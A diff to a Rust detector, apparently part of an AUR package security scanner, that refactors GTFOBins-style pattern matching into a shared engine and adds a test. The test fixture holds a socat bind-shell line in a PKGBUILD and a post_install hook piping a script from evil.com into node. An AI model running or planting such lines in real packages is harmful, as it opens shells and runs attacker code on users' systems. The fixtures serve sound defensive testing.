@@ -1,7 +1,6 @@
-pub mod patterns;
-
 use crate::features::Feature;
 use crate::shared::models::PackageContext;
+use crate::shared::patterns::PatternEngine;
 use crate::shared::scoring::{Signal, SignalCategory};
 
 pub struct GtfobinsAnalysis;
@@ -22,30 +21,13 @@ impl Feature for GtfobinsAnalysis {
 }
 
 fn match_patterns(content: &str, id_prefix: &str, desc_suffix: &str) -> Vec<Signal> {
-    let compiled = patterns::compiled_patterns();
-    let mut signals = Vec::new();
-
-    for pat in compiled {
-        if pat.regex.is_match(content) {
-            let matched_line = content
-                .lines()
-                .find(|line| pat.regex.is_match(line))
-                .map(|line| line.trim().to_string());
-            signals.push(Signal {
-                id: format!("{}{}", id_prefix, pat.id),
-                category: SignalCategory::Pkgbuild,
-                points: pat.points,
-                description: if desc_suffix.is_empty() {
-                    pat.description.clone()
-                } else {
-                    format!("{} {}", pat.description, desc_suffix)
-                },
-                is_override_gate: pat.override_gate,
-                matched_line,
-            });
+    let category = if id_prefix.is_empty() { SignalCategory::Pkgbuild } else { SignalCategory::InstallScript };
+    let mut signals = PatternEngine::scan(content, "gtfobins_analysis", category, id_prefix);
+    if !desc_suffix.is_empty() {
+        for signal in &mut signals {
+            signal.description = format!("{} {}", signal.description, desc_suffix);
         }
     }
-
     signals
 }
 
@@ -65,6 +47,15 @@ mod tests {
             github_stars: None,
             github_not_found: false,
             aur_comments: vec![],
+            artifact: None,
+            github_releases: None,
+            repo_files: Vec::new(),
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: Vec::new(),
+            history_rewrite: None,
         };
         GtfobinsAnalysis.analyze(&ctx).iter().map(|s| s.id.clone()).collect()
     }
@@ -73,6 +64,35 @@ mod tests {
         ids.iter().any(|s| s == id)
     }
 
+    #[test]
+    fn signals_carry_matched_line() {
+        let ctx = PackageContext {
+            name: "test-pkg".into(),
+            metadata: None,
+            pkgbuild_content: Some("pkgname=foo\nbuild() {\n  socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh\n}\n".into()),
+            install_script_content: Some("post_install() {\n  curl http://evil.com/payload.js | node\n}\n".into()),
+            prior_pkgbuild_content: None,
+            git_log: vec![],
+            maintainer_packages: vec![],
+            github_stars: None,
+            github_not_found: false,
+            aur_comments: vec![],
+            artifact: None,
+            github_releases: None,
+            repo_files: Vec::new(),
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: Vec::new(),
+            history_rewrite: None,
+        };
+        let signals = GtfobinsAnalysis.analyze(&ctx);
+        let line = |id: &str| signals.iter().find(|s| s.id == id).and_then(|s| s.matched_line.clone());
+        assert_eq!(line("G-BINDSHELL-SOCAT").as_deref(), Some("socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh"));
+        assert_eq!(line("IS-G-PIPE-NODE").as_deref(), Some("curl http://evil.com/payload.js | node"));
+    }
+
     // === Reverse Shells ===
 
     #[test]
@@ -957,6 +977,15 @@ build() {
             github_stars: None,
             github_not_found: false,
             aur_comments: vec![],
+            artifact: None,
+            github_releases: None,
+            repo_files: Vec::new(),
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: Vec::new(),
+            history_rewrite: None,
         };
         GtfobinsAnalysis.analyze(&ctx).iter().map(|s| s.id.clone()).collect()
     }